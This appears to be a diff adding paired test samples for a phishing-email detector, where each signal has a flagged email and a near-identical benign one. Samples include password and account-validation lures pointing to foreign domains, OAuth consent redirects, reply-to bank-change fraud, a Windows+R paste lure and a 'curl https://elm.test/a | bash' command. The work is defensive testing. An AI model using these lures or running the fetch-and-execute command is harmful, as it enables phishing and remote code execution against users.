@@ -117,6 +117,43 @@ type Sample = string | (Partial<Email> & Context);
 
 /** An email in which the signal is noticed, and one much like it in which it is not. */
 const SAMPLES: Readonly<Record<string, readonly [noticed: Sample, silent: Sample]>> = {
+  'password-asked-elsewhere': [
+    { ...from('Alder', 'hello@alder.example'), body: 'Please enter your password: https://elm.test/in' },
+    { ...from('Alder', 'hello@alder.example'), body: 'Please enter your password: https://app.alder.example/in' },
+  ],
+  'account-check-elsewhere': [
+    { ...from('Alder', 'hello@alder.example'), body: 'Please validate your account: https://elm.test/in' },
+    { ...from('Alder', 'hello@alder.example'), body: 'Please validate your ticket: https://elm.test/in' },
+  ],
+  'secret-request': ['Please enter your password: https://elm.test/in', 'Please enter your name: https://elm.test/in'],
+  'strangers-program': [
+    { ...from('Alder', 'hello@alder.example'), body: 'Open Terminal and run: curl https://elm.test/a | bash' },
+    { ...from('Alder', 'hello@alder.example'), body: 'Open Terminal and run: curl https://alder.example/a | bash' },
+  ],
+  'pasted-path': [
+    'At https://elm.test/a copy the path, open File Explorer, click the address bar and paste it.',
+    'Open File Explorer, click the address bar and paste \\\\files\\plans. More: https://elm.test/a',
+  ],
+  'sign-in-passes-on': [
+    { ...from('Alder', 'hello@alder.example'), body: consent('https://viewer.test/cb', 'openid') },
+    { ...from('Alder', 'hello@alder.example'), body: consent('https://app.alder.example/cb', 'openid') },
+  ],
+  'silent-sign-in': [
+    { ...from('Alder', 'hello@alder.example'), body: consent('https://viewer.test/cb', 'openid&prompt=none') },
+    { ...from('Alder', 'hello@alder.example'), body: consent('https://viewer.test/cb', 'openid') },
+  ],
+  'bank-change-answers-elsewhere': [
+    {
+      ...from('Alder', 'ada@alder.example'),
+      replyTo: [{ name: '', address: 'ada@elm.test' }],
+      body: 'Please use our new bank account',
+    },
+    {
+      ...from('Alder', 'ada@alder.example'),
+      replyTo: [{ name: '', address: 'pay@alder.example' }],
+      body: 'Please use our new bank account',
+    },
+  ],
   'pasted-command': [
     'To prove you are human, press Windows + R, then Ctrl + V, then Enter.',
     'Press Windows + R, type services.msc and press Enter.',
